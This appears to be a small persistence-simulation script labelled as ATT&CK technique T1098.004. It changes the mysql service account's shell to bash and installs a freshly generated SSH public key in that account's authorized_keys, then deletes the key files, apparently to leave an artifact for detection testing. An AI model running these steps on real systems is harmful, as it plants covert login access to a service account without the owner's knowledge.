# technique: T1098.004
# location: linux.ssh.authorized-keys
# source: /var/lib/mysql/.ssh/authorized_keys
usermod -s /bin/bash mysql
ssh-keygen -q -t rsa -b 2048 -N '' -C '' -f /tmp/km
install -D -o mysql -m 600 /tmp/km.pub /var/lib/mysql/.ssh/authorized_keys
rm /tmp/km /tmp/km.pub
